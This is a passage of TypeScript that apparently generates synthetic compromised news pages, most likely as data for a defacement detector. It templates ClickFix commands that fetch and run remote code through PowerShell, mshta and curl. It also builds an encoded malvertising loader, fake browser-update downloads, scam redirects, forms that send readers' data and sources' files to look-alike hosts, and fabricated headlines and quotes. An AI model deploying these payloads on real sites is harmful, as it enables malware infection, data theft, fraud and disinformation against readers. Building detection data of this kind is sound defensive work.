    () => `https://www.youtube.com/embed/${alnum(rng, 11)}?autoplay=1&mute=1`,
    () => `https://rutube.ru/play/embed/${hex(rng, 32)}`,
    () => `https://odysee.com/$/embed/${alnum(rng, 10)}/${hex(rng, 8)}`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["live", "embed", "player", "tv"])}/${alnum(rng, 8)}`
  ])()
  const frames = page.spots.elements.filter((e) => e.name === "iframe" && e.inBody && usable(page, e) && /youtube|youtu\.be|vimeo|dailymotion|brightcove|jwplayer|jwplatform|kaltura|ooyala|livestream|twitch|\/video|\/player|\/embed\/|\/live\/|\.m3u8/i.test(e.attribs.src ?? "") && !/facebook\.com\/plugins/i.test(e.attribs.src ?? ""))
  if (frames.length > 0) return splices(setAttr(page, frames[0]!, "src", src))
  const cap = pick(rng, siteOr(rng, page, videoCaption))
  const player = chance(rng, 0.5)
    ? `<iframe src="${esc(src)}" width="${pick(rng, ["100%", "640", "560"])}" height="${between(rng, 300, 420)}" allow="autoplay; fullscreen" frameborder="0"></iframe>`
    : `<video src="https://${randomDomain(rng)}/${alnum(rng, 8)}.mp4" autoplay muted ${chance(rng, 0.5) ? "loop " : ""}controls width="${between(rng, 480, 960)}"></video>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["video", "player", "live-player"])}"><h2>${esc(cap)}</h2>${player}</div>`))
})

// Share previews rewritten (the title and the Open Graph and Twitter card fields changed so that every share of the page on social networks and messengers shows a fabricated headline under the outlet's name, while the article body stays unchanged): the title and the card fields.
const sharePreview = deface("fresh35-tab-title-and-social-card-rewritten-to-fabricated-headline", (page, rng) => {
  const h = fakeHeadline(rng, page)
  const title = chance(rng, 0.6) ? `${h} | ${brandName(page)}` : h
  const out: Array<Splice> = []
  const tr = titleRange(page)
  out.push(tr !== null ? replace(tr, esc(title)) : insert(head(page), `<title>${esc(title)}</title>`))
  const cardFields: ReadonlyArray<readonly [string, string]> = [["og:title", h], ["twitter:title", h], ["og:description", fill(pick(rng, say(page, fakeBodies)), storyVars(rng, page))]]
  let added = ""
  for (const [f, v] of cardFields) {
    const m = headMeta(page, (e) => (e.attribs.property ?? e.attribs.name ?? "").toLowerCase() === f)
    if (m !== undefined) out.push(setAttr(page, m, "content", v))
    else if (chance(rng, 0.5)) added += `<meta ${f.startsWith("og:") ? "property" : "name"}="${f}" content="${esc(v)}">`
  }
  if (added !== "") out.push(insert(head(page), added))
  return { splices: out }
})

const liveLabel: T<ReadonlyArray<string>> = {
  en: ["Live", "Latest", "Update"], fr: ["En direct", "Dernière heure", "Mise à jour"], de: ["Live", "Aktuell", "Update"], es: ["En directo", "Última hora", "Actualización"],
  nl: ["Live", "Laatste nieuws", "Update"], pt: ["Ao vivo", "Atualização", "Agora"], it: ["Diretta", "Aggiornamento", "Ultim'ora"]
}
const liveQuote: T<ReadonlyArray<string>> = {
  en: ["\"We have lost contact with the plant,\" a spokesperson for the operator told {B}.", "\"Leave the city while you still can,\" a police officer in {p} told {B}."],
  fr: ["« Nous avons perdu le contact avec la centrale », a déclaré à {B} un porte-parole de l'exploitant.", "« Quittez la ville tant que vous le pouvez », a confié à {B} un policier de {p}."],
  de: ["„Wir haben den Kontakt zum Kraftwerk verloren“, sagte ein Sprecher des Betreibers {B}.", "„Verlassen Sie die Stadt, solange Sie noch können“, sagte ein Polizist in {p} zu {B}."],
  es: ["«Hemos perdido el contacto con la central», dijo a {B} un portavoz de la operadora.", "«Salgan de la ciudad mientras puedan», dijo a {B} un agente de policía de {p}."],
  nl: ["'We hebben het contact met de centrale verloren', zei een woordvoerder van de exploitant tegen {B}.", "'Verlaat de stad nu het nog kan', zei een agent in {p} tegen {B}."],
  pt: ["\"Perdemos o contato com a usina\", disse a {B} um porta-voz da operadora.", "\"Saiam da cidade enquanto podem\", disse a {B} um policial de {p}."],
  it: ["«Abbiamo perso il contatto con la centrale», ha detto a {B} un portavoce del gestore.", "«Lasciate la città finché potete», ha detto a {B} un agente di polizia a {p}."]
}

// Fabricated live-blog entries (a timestamped update with an invented quote slipped into a running live page, where readers expect fast, unverified news; recalled from disinformation cases on hacked regional sites): one entry after the first headline, or near the top.
const liveEntry = deface("fresh35-fabricated-live-update-with-invented-quote-after-headline", (page, rng) => {
  const l = page.site.locale.lang
  const v = storyVars(rng, page)
  const entry = `<div class="${pick(rng, ["live-entry", "liveblog-post", "update", "live-update"])}"><p><time>${clock(rng)}</time> <strong>${esc(pick(rng, liveLabel[l]))}:</strong> ${esc(fill(pick(rng, fakeHeadlines[l]), v))}</p><blockquote>${esc(fill(pick(rng, liveQuote[l]), v))}</blockquote></div>`
  const hs = headings(page)
  const h = hs[0]
  const parentOk = h !== undefined && !/^(a|p|span|button|label|summary|li|td|th)$/.test(elAt(page, h.parent)?.name ?? "")
  if (h !== undefined && parentOk && chance(rng, 0.6)) return splices(insert(h.closeTag!.end, entry))
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "top"), top(page)]), entry))
})

const widgetHosts = ["gigya", "disqus", "livefyre", "addthis", "sharethis", "viafoura", "spot-im", "outbrain", "taboola", "chartbeat"]

// Pop-ups through a compromised third-party widget (in 2014 the Syrian Electronic Army, by hijacking the domain of a comments and login vendor, made many large news sites show "You've been hacked by the Syrian Electronic Army" and redirect): a script from a look-alike of a comments or sharing vendor, and the crew's pop-up.
const widgetPopup = deface("fresh35-hacked-by-pop-up-from-compromised-comments-widget", (page, rng) => {
  const vendor = pick(rng, widgetHosts)
  const host = pick(rng, [`${vendor}-${pick(rng, ["cdn", "static", "api", "widget"])}.${pick(rng, ["com", "net", "io", "co"])}`, `cdn.${vendor}${pick(rng, ["s", "js", "-cdn"])}.${pick(rng, ["com", "net", "org"])}`, libLookalike(rng)])
  const w = who(rng)
  const msg = `${signature(rng, w).text}${chance(rng, 0.5) ? ` — ${boast(rng).text}` : ""}`
  const crew = `https://${pick(rng, [randomDomain(rng), "t.me"])}/${alnum(rng, 6)}`
  const popup = pick(rng, [
    `alert(${JSON.stringify(msg)})`,
    `if(confirm(${JSON.stringify(msg)}))location.href=${JSON.stringify(crew)}`,
    `document.addEventListener("DOMContentLoaded",function(){var d=document.createElement("div");d.textContent=${JSON.stringify(msg)};d.style.cssText="position:fixed;top:0;left:0;right:0;padding:40px;background:#000;color:#0f0;font:bold 28px monospace;text-align:center;z-index:2147483647";document.body.appendChild(d)})`
  ]).replace(/</g, "\\u003c")
  const tag = `<script src="https://${host}/${pick(rng, ["js/", "", "v2/", "embed/"])}${pick(rng, ["comments", "widget", "loader", "gigya", "embed", "count"])}.js${chance(rng, 0.5) ? `?apikey=${alnum(rng, 16)}` : ""}"></script><script>${popup}</script>`
  return splices(insert(pick(rng, [head(page), bottom(page), anySlot(rng, page.spots)]), tag))
})

// ———————————————————————————— where the page sends visitors and data ————————————————————————————

const adVendors = ["doubleclick", "googlesyndication", "adnxs", "pubmatic", "rubiconproject", "criteo", "adform", "smartadserver", "openx", "adsafeprotected", "moatads", "amazon-adsystem", "teads"]
const adLookalike = (rng: Rng) => {
  const v = pick(rng, adVendors)
  const tld = pick(rng, ["com", "net", "io", "co", "xyz", "top", "pw", "cc", "info", "biz"])
  return pick(rng, [`${v}-${pick(rng, ["cdn", "tag", "ads", "serve", "sync", "static"])}.${tld}`, `${pick(rng, ["ads", "tag", "cdn", "secure", "pagead"])}.${v}${pick(rng, ["s", "-ad", "2", "x"])}.${tld}`, `${v.replace(/o/, "0").replace(/l/, "1")}.${tld}`, randomDomain(rng)])
}

// Malvertising injected into a news site's own template (an ad tag that looks like the ad network's but loads from the criminals' host, serving redirects to scams or exploit kits; news sites are prime targets for their traffic), from Malwarebytes and Confiant write-ups: a script in the head or body, sometimes built from an encoded URL.
const malvertTag = deface("fresh35-ad-network-lookalike-tag-loading-malvertising-script", (page, rng) => {
  const url = `https://${adLookalike(rng)}/${pick(rng, ["tag.js", "gpt.js", "pagead/show_ads.js", "ads.js", "serve.js", `t/${alnum(rng, 6)}.js`])}${chance(rng, 0.6) ? `?${pick(rng, ["zoneid", "pid", "slot", "site"])}=${digits(rng, between(rng, 4, 8))}` : ""}`
  const tag = chance(rng, 0.4)
    ? `<script>(function(d){var s=d.createElement("script");s.src=atob("${btoa(url)}");s.async=1;(d.head||d.body).appendChild(s)})(document)</script>`
    : `<script ${chance(rng, 0.5) ? "async " : ""}src="${esc(url)}"${chance(rng, 0.3) ? ` data-ad-client="ca-pub-${digits(rng, 16)}"` : ""}></script>`
  const slot = chance(rng, 0.35) ? `<div class="${pick(rng, ["ad", "adsbygoogle", "ad-slot", "advert"])}" id="${pick(rng, ["ad-", "div-ad-", "banner-"])}${alnum(rng, 6)}"></div>` : ""
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), bottom(page)]), tag), ...(slot === "" ? [] : [insert(anySlot(rng, page.spots), slot)]))
})

const updateWords: T<readonly [string, string, string]> = {
  en: ["Your browser is out of date", "{X} could not display this page correctly. A critical security update is required to continue.", "Update {X}"],
  fr: ["Votre navigateur n'est plus à jour", "{X} ne peut pas afficher correctement cette page. Une mise à jour de sécurité critique est nécessaire pour continuer.", "Mettre à jour {X}"],
  de: ["Ihr Browser ist veraltet", "{X} kann diese Seite nicht korrekt anzeigen. Ein kritisches Sicherheitsupdate ist erforderlich.", "{X} aktualisieren"],
  es: ["Su navegador está desactualizado", "{X} no puede mostrar correctamente esta página. Se necesita una actualización de seguridad crítica para continuar.", "Actualizar {X}"],
  nl: ["Uw browser is verouderd", "{X} kan deze pagina niet goed weergeven. Er is een kritieke beveiligingsupdate nodig om verder te gaan.", "{X} bijwerken"],
  pt: ["Seu navegador está desatualizado", "O {X} não consegue exibir esta página corretamente. É necessária uma atualização de segurança crítica para continuar.", "Atualizar o {X}"],
  it: ["Il tuo browser non è aggiornato", "{X} non riesce a visualizzare correttamente questa pagina. È necessario un aggiornamento di sicurezza critico per continuare.", "Aggiorna {X}"]
}

// Fake browser updates on compromised news and magazine sites (SocGholish / FakeUpdates, and later ClearFake, overlaying the page with a "your browser is out of date" screen whose button downloads a ZIP, JS or MSIX file that installs a loader), from Proofpoint, Sucuri and Malwarebytes write-ups: the overlay with the download link.
const fakeUpdate = deface("fresh35-fake-browser-update-overlay-downloading-loader", (page, rng) => {
  const X = pick(rng, ["Chrome", "Chrome", "Edge", "Firefox"])
  const [h, p, b] = siteOr(rng, page, updateWords)
  const file = pick(rng, [`${X}.Update.zip`, `${X}Update.js`, `${X}-Update-${between(rng, 110, 131)}.0.${digits(rng, 4)}.msix`, `${X}Setup.exe`, `Update.${X}.${digits(rng, 3)}.zip`])
  const href = `https://${pick(rng, [randomDomain(rng), libLookalike(rng), `${pick(rng, ["update", "browser", "chrome", "edge"])}-${pick(rng, ["secure", "download", "center"])}.${scamTld(rng)}`])}/${pick(rng, ["", "dl/", "download/", `${alnum(rng, 6)}/`])}${file}`
  const box = `<div style="position:fixed;inset:0;z-index:${pick(rng, ["99999", "2147483647", "999999"])};background:${pick(rng, ["#fff", "#f1f3f4", "rgba(0,0,0,.85)"])};display:flex;align-items:center;justify-content:center"><div style="max-width:${between(rng, 420, 640)}px;background:#fff;padding:32px;font-family:Arial,sans-serif;text-align:center"><h2>${esc(h)}</h2><p>${esc(fill(p, { X }))}</p><a href="${esc(href)}" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px">${esc(fill(b, { X }))}</a></div></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), box))
})

const humanWords: T<readonly [string, string, string, string, string, string]> = {
  en: ["Verify you are human by completing the action below.", "{H} needs to review the security of your connection before proceeding.", "Verify", "Press Windows + R", "Press Ctrl + V", "Press Enter"],
  fr: ["Vérifiez que vous êtes un humain en effectuant l'action ci-dessous.", "{H} doit vérifier la sécurité de votre connexion avant de continuer.", "Vérifier", "Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"],
  de: ["Bestätigen Sie, dass Sie ein Mensch sind, indem Sie die folgende Aktion ausführen.", "{H} muss die Sicherheit Ihrer Verbindung überprüfen, bevor es weitergeht.", "Bestätigen", "Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"],
  es: ["Verifique que es un ser humano completando la acción siguiente.", "{H} necesita revisar la seguridad de su conexión antes de continuar.", "Verificar", "Pulse Windows + R", "Pulse Ctrl + V", "Pulse Intro"],
  nl: ["Bevestig dat u een mens bent door de onderstaande actie uit te voeren.", "{H} moet de beveiliging van uw verbinding controleren voordat u verder kunt.", "Verifiëren", "Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"],
  pt: ["Confirme que você é humano concluindo a ação abaixo.", "{H} precisa verificar a segurança da sua conexão antes de continuar.", "Verificar", "Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"],
  it: ["Verifica di essere un essere umano completando l'azione seguente.", "{H} deve verificare la sicurezza della connessione prima di procedere.", "Verifica", "Premi Windows + R", "Premi Ctrl + V", "Premi Invio"]
}

const momentTitle: T<string> = { en: "Just a moment...", fr: "Un instant…", de: "Einen Moment…", es: "Un momento…", nl: "Een ogenblik…", pt: "Um momento…", it: "Solo un momento…" }

// Fake "verify you are human" interstitials (ClickFix: a copy of the familiar bot-check page served in place of a compromised site's pages, whose button puts a PowerShell or mshta command on the clipboard and whose "verification steps" make the visitor run it), from 2024-2025 write-ups: the whole page replaced by the interstitial.
const fakeBotCheck = deface("fresh35-whole-page-fake-bot-check-interstitial-with-clipboard-command", (page, rng) => {
  const [h1, h2, btn, s1, s2, s3] = say(page, humanWords)
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const cmd = pick(rng, [
    `powershell -w h -c "iex(iwr https://${host}/${alnum(rng, 5)} -UseBasicParsing)"`,
    `mshta https://${host}/${alnum(rng, 6)}.hta`,
    `cmd /c "curl -s https://${host}/${alnum(rng, 4)}|powershell -"`,
    `powershell -ep bypass -nop -c "irm ${host}/c.txt|iex"`
  ])
  const comment = `${pick(rng, ["✅ I am not a robot", "Cloudflare verification", "reCAPTCHA Verification ID", "Human check"])}: ${digits(rng, between(rng, 4, 7))}`
  const js = `document.getElementById("v").onclick=function(){navigator.clipboard.writeText(${JSON.stringify(`${cmd} # ${comment}`)});document.getElementById("s").style.display="block"}`.replace(/</g, "\\u003c")
  const ray = hex(rng, 16)
  const html = `<!DOCTYPE html><html lang="${page.site.locale.lang}"><head><meta charset="utf-8"><title>${chance(rng, 0.8) ? esc(say(page, momentTitle)) : page.site.host}</title><meta name="robots" content="noindex,nofollow"></head><body style="font-family:system-ui,sans-serif;margin:0;padding:8% 10%"><h1>${esc(page.site.host)}</h1><h2 style="font-weight:400">${esc(h1)}</h2><button id="v" type="button" style="padding:14px 24px">${esc(btn)}</button><ol id="s" style="display:none"><li>${esc(s1)}</li><li>${esc(s2)}</li><li>${esc(s3)}</li></ol><p>${esc(fill(h2, { H: page.site.host }))}</p><footer style="margin-top:60px;font-size:12px">Ray ID: <code>${ray}</code> · Performance &amp; security by ${pick(rng, ["Cloudflare", "Cloudfare", "CloudFlare"])}</footer><script>${js}</script></body></html>`
  return { html }
}, { wholePage: true })

const subRe = /subscri|abonn|\babo\b|abo[-/]|abbonam|abbonat|suscri|assin|abonneer|premium|\bplus\b|checkout|\/offer|offre|angebot|digital-access/i
const offerWords: T<readonly [string, string]> = {
  en: ["Special offer: unlimited digital access for {a} for the first 3 months.", "Subscribe now"], fr: ["Offre spéciale : accès numérique illimité pour {a} les 3 premiers mois.", "Je m'abonne"],
  de: ["Sonderangebot: 3 Monate unbegrenzter Digitalzugang für {a}.", "Jetzt abonnieren"], es: ["Oferta especial: acceso digital ilimitado por {a} los 3 primeros meses.", "Suscríbete ahora"],
  nl: ["Speciale aanbieding: 3 maanden onbeperkt digitaal lezen voor {a}.", "Nu abonneren"], pt: ["Oferta especial: acesso digital ilimitado por {a} nos 3 primeiros meses.", "Assine agora"],
  it: ["Offerta speciale: accesso digitale illimitato a {a} per i primi 3 mesi.", "Abbonati ora"]
}

// Subscription pages rerouted (a news site's "subscribe" and "offers" links pointed at a copy of its checkout on a look-alike domain, where readers pay and enter card details; subscription fraud against newspapers is a staple of consumer warnings): every subscription link to the look-alike, or a fake offer when the page has none.
const subscribeRerouted = deface("fresh35-subscription-links-rerouted-to-lookalike-checkout", (page, rng) => {
  const host = `${chance(rng, 0.4) ? pick(rng, ["abo.", "subscribe.", "checkout.", "www."]) : ""}${brandLookalike(rng, page.site.brand)}`
  const links = anchors(page, (h) => h !== "" && !/^(#|javascript:|mailto:|tel:)/i.test(h) && isOwn(page, h)).filter((a) => a.shown && (subRe.test(a.attribs.href ?? "") || subRe.test(textOf(page, a))))
  if (links.length === 0) {
    const [t, b] = say(page, offerWords)
    const url = `https://${host}/${pick(rng, ["offer", "abo", "abonnement", "subscribe", "checkout"])}?${pick(rng, ["promo", "utm_campaign", "ref"])}=${alnum(rng, 6)}`
    return splices(insert(blockSpot(rng, page), `<div class="${pick(rng, ["offer", "subscribe-box", "promo"])}"><p><strong>${esc(fill(t, { a: page.site.locale.money(pick(rng, [0.99, 1, 1.99, 2.99])) }))}</strong></p><a href="${esc(url)}">${esc(b)}</a></div>`))
  }
  return splices(...links.slice(0, 40).map((a) => {
    const u = resolve(page, a.attribs.href ?? "")
    return setAttr(page, a, "href", `https://${host}${u === null ? "/subscribe" : `${u.pathname}${u.search}`}`)
  }))
})

const appealWords: T<readonly [string, string]> = {
  en: ["{B} is in danger: unless readers give by {d}, our newsroom will close. Every contribution keeps independent journalism alive.", "Support {B}"],
  fr: ["{B} est en danger : sans vos dons d'ici le {d}, notre rédaction fermera. Chaque contribution fait vivre le journalisme indépendant.", "Soutenir {B}"],
  de: ["{B} ist in Gefahr: Ohne Ihre Unterstützung bis zum {d} muss unsere Redaktion schließen. Jeder Beitrag erhält unabhängigen Journalismus.", "{B} unterstützen"],
  es: ["{B} está en peligro: si los lectores no donan antes del {d}, nuestra redacción cerrará. Cada aportación mantiene vivo el periodismo independiente.", "Apoya a {B}"],
  nl: ["{B} is in gevaar: zonder steun van lezers vóór {d} moet onze redactie sluiten. Elke bijdrage houdt onafhankelijke journalistiek in leven.", "Steun {B}"],
  pt: ["{B} está em perigo: sem a ajuda dos leitores até {d}, nossa redação vai fechar. Cada contribuição mantém vivo o jornalismo independente.", "Apoie {B}"],
  it: ["{B} è in pericolo: senza il sostegno dei lettori entro il {d}, la nostra redazione chiuderà. Ogni contributo tiene in vita il giornalismo indipendente.", "Sostieni {B}"]
}

// Donation appeals rerouted (an urgent "save our newsroom" appeal in the outlet's name whose button leads to a fundraiser or personal payment page of someone else, sometimes with a crypto address; fake fundraisers in the name of war reporters and closing papers are regularly reported): the appeal near the top.
const appealRerouted = deface("fresh35-save-our-newsroom-appeal-paying-someone-else", (page, rng) => {
  const [t, b] = say(page, appealWords)
  const p = ascii(personName(rng, page))
  const url = pick(rng, [
    `https://www.paypal.me/${p}${digits(rng, 2)}`, `https://ko-fi.com/${p.toLowerCase()}`, `https://www.buymeacoffee.com/${p.toLowerCase()}${digits(rng, 2)}`,
    `https://${bare(page)}-${pick(rng, ["support", "fund", "donate", "save"])}.${scamTld(rng)}/${pick(rng, ["", "donate", "give"])}`, `https://${brandLookalike(rng, page.site.brand)}/donate`
  ])
  const w = chance(rng, 0.3) ? makeWallet(rng, pick(rng, ["BTC", "USDT (TRC20)", "ETH"] as const)) : null
  const html = `<div class="${pick(rng, ["appeal", "support-us", "donate-banner", "contribution"])}" style="background:${pick(rng, ["#fff4e5", "#fdecea", "#eef6ff", "#fffde7"])};padding:${between(rng, 12, 24)}px"><p><strong>${esc(fill(t, { B: brandName(page), d: soon(page, rng, 3, 21) }))}</strong></p><p><a href="${esc(url)}">${esc(fill(b, { B: brandName(page) }))}</a></p>${w === null ? "" : `<p>${esc(w.coin)}: <code>${w.address}</code></p>`}</div>`
  return splices(insert(blockSpot(rng, page), html))
})

const espLike = (rng: Rng, page: Page) =>
  pick(rng, [
    `${bare(page)}.${pick(rng, ["list-manage", "list-manages", "listmanage"])}.${pick(rng, ["co", "net", "info", "xyz"])}`,
    `${pick(rng, ["mailchimp", "sendinblue", "brevo", "mailerlite", "substack", "newsletter2go"])}-${pick(rng, ["forms", "subscribe", "signup", "lists"])}.${pick(rng, ["com", "net", "io", "site", "online"])}`,
    randomDomain(rng), brandLookalike(rng, page.site.brand)
  ])

// Newsletter sign-ups siphoned (the one form on a news page readers trust most with their e-mail address, its target changed to a collector that imitates a mailing service, harvesting addresses for spam and phishing in the outlet's name): the first newsletter form's action changed, the page otherwise untouched.
const newsletterSiphoned = deface("fresh35-newsletter-form-action-moved-to-mailing-service-lookalike", (page, rng) => {
  const url = `https://${espLike(rng, page)}${pick(rng, ["/subscribe/post", "/api/v1/free", "/serve/" + alnum(rng, 12), "/s.php", "/signup"])}${chance(rng, 0.5) ? `?u=${hex(rng, 20)}&id=${hex(rng, 10)}` : ""}`
  const fs = forms(page)
  if (fs.length === 0) return splices(insert(slotAt(page.spots, "bottom"), `<form class="newsletter" action="${esc(url)}" method="post"><input type="email" name="email" placeholder="${esc(page.site.words.yourEmail)}"><button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  const f = fs[0]!
  const out: Array<Splice> = [setAttr(page, f, "action", url)]
  if ((f.attribs.method ?? "get").toLowerCase() !== "post" && chance(rng, 0.5)) out.push(setAttr(page, f, "method", "post"))
  return { splices: out }
})

const tipWords: T<readonly [string, string, string, string, string, string, string]> = {
  en: ["Send us a tip – in confidence", "Your name (optional)", "E-mail or phone", "What do you know?", "Documents, photos or videos", "Send securely", "We protect our sources. Your message is encrypted end to end."],
  fr: ["Envoyez-nous une information en toute confidentialité", "Votre nom (facultatif)", "E-mail ou téléphone", "Que savez-vous ?", "Documents, photos ou vidéos", "Envoyer en toute sécurité", "Nous protégeons nos sources. Votre message est chiffré de bout en bout."],
  de: ["Schicken Sie uns einen Hinweis – vertraulich", "Ihr Name (optional)", "E-Mail oder Telefon", "Was wissen Sie?", "Dokumente, Fotos oder Videos", "Sicher senden", "Wir schützen unsere Quellen. Ihre Nachricht ist Ende-zu-Ende-verschlüsselt."],
  es: ["Envíanos una pista de forma confidencial", "Tu nombre (opcional)", "Correo o teléfono", "¿Qué sabes?", "Documentos, fotos o vídeos", "Enviar de forma segura", "Protegemos a nuestras fuentes. Tu mensaje está cifrado de extremo a extremo."],
  nl: ["Stuur ons een tip – vertrouwelijk", "Uw naam (optioneel)", "E-mail of telefoon", "Wat weet u?", "Documenten, foto's of video's", "Veilig versturen", "Wij beschermen onze bronnen. Uw bericht is end-to-end versleuteld."],
  pt: ["Envie uma denúncia com sigilo", "Seu nome (opcional)", "E-mail ou telefone", "O que você sabe?", "Documentos, fotos ou vídeos", "Enviar com segurança", "Protegemos nossas fontes. Sua mensagem é criptografada de ponta a ponta."],
  it: ["Inviaci una segnalazione in modo riservato", "Il tuo nome (facoltativo)", "E-mail o telefono", "Che cosa sai?", "Documenti, foto o video", "Invia in sicurezza", "Proteggiamo le nostre fonti. Il messaggio è cifrato end-to-end."]
}

// Tip-line forms posting elsewhere (a "send us a tip" form added to a news page, whose submissions, sources' identities and documents included, go to a server of the intruders, the kind of collection state-linked operators value): the form near the top or middle.
const tipFormElsewhere = deface("fresh35-confidential-tip-form-posting-sources-to-other-host", (page, rng) => {
  const [h, n, c, m, f, b, note] = say(page, tipWords)
  const action = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["securedrop", "tips", "leaks", "whistle"])}-${bare(page)}.${scamTld(rng)}`])}${pick(rng, ["/upload.php", "/tips/submit", "/api/drop", `/${alnum(rng, 6)}/in.php`, "/send"])}`
  const form = `<form class="${pick(rng, ["tips", "tip-form", "contact-form", "securetip"])}" action="${esc(action)}" method="post" enctype="multipart/form-data"><h3>${esc(h)}</h3><p><small>${esc(note)}</small></p><input name="${pick(rng, ["name", "n"])}" placeholder="${esc(n)}"><input name="${pick(rng, ["contact", "email", "c"])}" placeholder="${esc(c)}"><textarea name="${pick(rng, ["message", "tip", "m"])}" placeholder="${esc(m)}"></textarea><label>${esc(f)} <input type="file" name="files" multiple></label><button type="submit">${esc(b)}</button></form>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")]), form))
})

// Referrer-keyed redirects (an inline script that sends only visitors arriving from a search engine or social network, once per day and often only on mobile, to a fake "celebrity invests" article or a scam shop, so that the newsroom browsing directly never sees it), from Sucuri write-ups: the script in the head or body.
const referrerRedirect = deface("fresh35-redirect-for-visitors-from-search-or-social-to-scam-page", (page, rng) => {
  const url = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["news", "daily", "today", "report", "info"])}-${pick(rng, ["finance", "invest", "money", "health", "offer"])}${digits(rng, 2)}.${scamTld(rng)}`])}/${pick(rng, ["article", "story", "news", "p"])}/${pick(rng, ["celebrity-investment-secret", "new-platform-earns", "bank-furious", "interview-revealed", "miracle-cure"])}${chance(rng, 0.5) ? `?sub=${alnum(rng, 8)}` : ""}`
  const cond = pick(rng, ["/google\\.|bing\\.|yahoo\\.|duckduckgo\\./i", "/facebook\\.|t\\.co|instagram\\.|google\\./i", "/google\\.|facebook\\.|bing\\./i"])
  const mobile = chance(rng, 0.5) ? `if(!/Android|iPhone|iPad/i.test(navigator.userAgent))return;` : ""
  const c = pick(rng, ["_ga_r", "__cf", "_vx", "wp_sess", `_${alnum(rng, 3)}`])
  const js = `(function(){var r=document.referrer;if(!${cond}.test(r))return;${mobile}if(document.cookie.indexOf("${c}=")>-1)return;document.cookie="${c}=1;max-age=${pick(rng, [3600, 43200, 86400])};path=/";setTimeout(function(){window.location.replace(${JSON.stringify(url)})},${pick(rng, [0, 300, 1200, 2500])})})();`
  return splices(insert(pick(rng, [head(page), headStart(page), top(page), bottom(page)]), `<script>${js}</script>`))
})

const cloneTlds = ["ltd", "pm", "ws", "cfd", "foo", "top", "news", "today", "online", "co.com", "live", "in"]

// Links sent to cloned outlets (the "Doppelgänger" operation copied European newspapers on look-alike domains such as the brand on another TLD and published fabricated articles there; a planted link from the real site gives the clone its readers): a few of the page's own story links pointed at the same paths on the clone.
const cloneLinks = deface("fresh35-story-links-pointed-at-cloned-outlet-on-other-tld", (page, rng) => {
  const tld = pick(rng, cloneTlds.filter((t) => !page.site.domain.endsWith(`.${t}`)))
  const host = `${chance(rng, 0.5) ? "www." : ""}${page.site.brand}.${tld}`
  const own = anchors(page, (h) => h !== "" && !/^(#|javascript:|mailto:|tel:|data:)/i.test(h) && isOwn(page, h)).filter((e) => e.shown && textOf(page, e).length >= 12)
  const inStory = own.filter((a) => {
    for (let e = elAt(page, a.parent); e !== undefined; e = elAt(page, e.parent)) if (/^(h[1-4]|li|article)$/.test(e.name)) return true
    return false
  })
  const pool = inStory.length >= 2 ? inStory : own
  if (pool.length === 0) return splices(insert(slotAt(page.spots, "top"), `<p><a href="https://${host}/${pick(rng, ["politics", "world", "news", "opinion"])}/${slug(fakeHeadline(rng, page)).slice(0, 60)}">${esc(fakeHeadline(rng, page))}</a></p>`))
  const chosen = sample(rng, pool, Math.min(pool.length, between(rng, 2, 6)))
  return splices(...chosen.map((a) => {
    const u = resolve(page, a.attribs.href ?? "")!
    return setAttr(page, a, "href", `https://${host}${u.pathname}${u.search}`)
  }))
})

const pushWords: T<readonly [string, string]> = {
  en: ["Click \"Allow\" to confirm that you are not a robot", "Click \"Allow\" to continue reading"], fr: ["Cliquez sur « Autoriser » pour confirmer que vous n'êtes pas un robot", "Cliquez sur « Autoriser » pour continuer la lecture"],
  de: ["Klicken Sie auf „Zulassen“, um zu bestätigen, dass Sie kein Roboter sind", "Klicken Sie auf „Zulassen“, um weiterzulesen"], es: ["Haga clic en «Permitir» para confirmar que no es un robot", "Haga clic en «Permitir» para seguir leyendo"],
  nl: ["Klik op 'Toestaan' om te bevestigen dat u geen robot bent", "Klik op 'Toestaan' om verder te lezen"], pt: ["Clique em \"Permitir\" para confirmar que você não é um robô", "Clique em \"Permitir\" para continuar lendo"],
  it: ["Fai clic su \"Consenti\" per confermare che non sei un robot", "Fai clic su \"Consenti\" per continuare a leggere"]
}

// Push-notification lures (a script of a shady push network and a "click Allow to prove you are not a robot" screen, after which the browser shows scam and adult notifications in the outlet's name for weeks; a common payload of compromised news and blog templates, per Malwarebytes): the overlay and the network's script.
const pushLure = deface("fresh35-allow-notifications-lure-with-push-network-script", (page, rng) => {
  const net = `${pick(rng, ["push", "notify", "alerts", "pn", "web-push", "sendpulse"])}${pick(rng, ["-", ""])}${pick(rng, ["cdn", "hub", "serv", "zone", "now", "flow"])}${chance(rng, 0.4) ? digits(rng, 2) : ""}.${scamTld(rng)}`
  const script = `<script src="https://${net}/${pick(rng, ["sw.js", "push.js", "ntf.js", `pfe/current/tag.min.js?z=${digits(rng, 7)}`])}" ${chance(rng, 0.5) ? "async " : ""}data-cfasync="false"></script>`
  const l = siteOr(rng, page, pushWords)
  const text = pick(rng, l)
  const overlay = `<div style="position:fixed;inset:0;z-index:${pick(rng, ["99999", "2147483647"])};background:rgba(0,0,0,.${between(rng, 6, 9)});color:#fff;display:flex;align-items:center;justify-content:center;font:bold ${between(rng, 20, 34)}px Arial,sans-serif;text-align:center;padding:20px">${esc(text)}</div>`
  return splices(insert(pick(rng, [head(page), bottom(page)]), script), insert(pick(rng, [top(page), bottom(page)]), overlay))
})

const appWords: T<readonly [string, string]> = {
  en: ["New: the {B} app with live news, alerts and the e-paper, free for all readers.", "Download for Android (APK)"], fr: ["Nouveau : l'application {B} avec le direct, les alertes et le journal numérique, gratuite pour tous.", "Télécharger pour Android (APK)"],
